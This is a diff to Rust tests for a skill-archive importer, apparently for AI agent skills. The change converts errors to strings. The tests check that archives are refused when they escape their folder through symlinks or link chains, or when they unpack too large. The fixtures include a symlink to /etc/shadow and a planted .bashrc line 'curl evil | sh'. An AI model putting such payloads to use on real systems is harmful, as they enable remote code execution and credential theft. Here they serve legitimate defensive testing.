@@ -100,7 +100,7 @@ fn a_tar_gz_with_one_skill_folder_is_installed_under_its_name() {
     );
     assert_eq!(import(&archive, &d.skills, false).unwrap(), ["pdf-forms"]);
     assert!(d.skills.join("pdf-forms/scripts/fill.py").is_file());
-    let again = import(&archive, &d.skills, false).unwrap_err();
+    let again = import(&archive, &d.skills, false).unwrap_err().to_string();
     assert!(
         again.contains("already installed") && again.contains("--force"),
         "{again}"
@@ -188,7 +188,7 @@ fn entries_that_leave_the_skill_refuse_the_whole_import() {
     ];
     for (name, bytes, expected) in cases {
         let archive = write(&d, name, &bytes);
-        let e = import(&archive, &d.skills, false).unwrap_err();
+        let e = import(&archive, &d.skills, false).unwrap_err().to_string();
         assert!(
             e.contains(expected) && e.starts_with("refusing "),
             "{name}: {e}"
@@ -205,7 +205,7 @@ fn a_folder_with_a_link_out_is_refused_and_a_broken_skill_is_named() {
     std::fs::create_dir_all(&src).unwrap();
     std::fs::write(src.join("SKILL.md"), SKILL).unwrap();
     std::os::unix::fs::symlink("/etc/shadow", src.join("shadow")).unwrap();
-    let e = import(&src, &d.skills, false).unwrap_err();
+    let e = import(&src, &d.skills, false).unwrap_err().to_string();
     assert!(e.contains("points outside the skill"), "{e}");
     std::fs::remove_file(src.join("shadow")).unwrap();
     assert_eq!(import(&src, &d.skills, false).unwrap(), ["pdf-forms"]);
@@ -215,18 +215,20 @@ fn a_folder_with_a_link_out_is_refused_and_a_broken_skill_is_named() {
         "broken.zip",
         &zip(&[("x/SKILL.md", "---\nname: x\n---\n")], &[]),
     );
-    let e = import(&broken, &d.skills, false).unwrap_err();
+    let e = import(&broken, &d.skills, false).unwrap_err().to_string();
     assert!(e.contains("`description` is required"), "{e}");
     let empty = write(&d, "empty.zip", &zip(&[("README.md", "no skill")], &[]));
     assert!(
         import(&empty, &d.skills, false)
             .unwrap_err()
+            .to_string()
             .contains("no SKILL.md found")
     );
     let other = write(&d, "notes.txt", b"text");
     assert!(
         import(&other, &d.skills, false)
             .unwrap_err()
+            .to_string()
             .contains("neither a folder nor")
     );
 }
@@ -247,7 +249,7 @@ fn an_archive_that_unpacks_too_large_is_refused_by_what_it_writes() {
         std::fs::metadata(&archive).unwrap().len() < 1024 * 1024,
         "it compresses well"
     );
-    let e = import(&archive, &d.skills, false).unwrap_err();
+    let e = import(&archive, &d.skills, false).unwrap_err().to_string();
     assert!(e.contains("over 64 MiB"), "{e}");
     assert_nothing_installed(&d);
 }
@@ -299,7 +301,7 @@ fn a_chain_of_links_cannot_carry_a_write_out_of_the_staging_folder() {
             ("b/c/d/e/.bashrc", Ok(b"curl evil | sh\n")),
         ]),
     );
-    let e = import(&archive, &d.skills, false).unwrap_err();
+    let e = import(&archive, &d.skills, false).unwrap_err().to_string();
     assert!(e.starts_with("refusing "), "{e}");
     let home = d.skills.parent().unwrap();
     assert!(!home.join(".bashrc").exists() && !home.join("e").exists());
@@ -337,7 +339,7 @@ fn links_that_leave_their_skill_through_a_wrapper_or_into_another_skill_are_refu
     ];
     for (name, items) in cases {
         let archive = write(&d, name, &tar_gz_mixed(&items));
-        let e = import(&archive, &d.skills, false).unwrap_err();
+        let e = import(&archive, &d.skills, false).unwrap_err().to_string();
         assert!(
             e.contains("points outside the skill or to nothing"),
             "{name}: {e}"
@@ -355,6 +357,7 @@ fn links_that_leave_their_skill_through_a_wrapper_or_into_another_skill_are_refu
     assert!(
         import(&twice, &d.skills, false)
             .unwrap_err()
+            .to_string()
             .contains("appears twice")
     );
 }
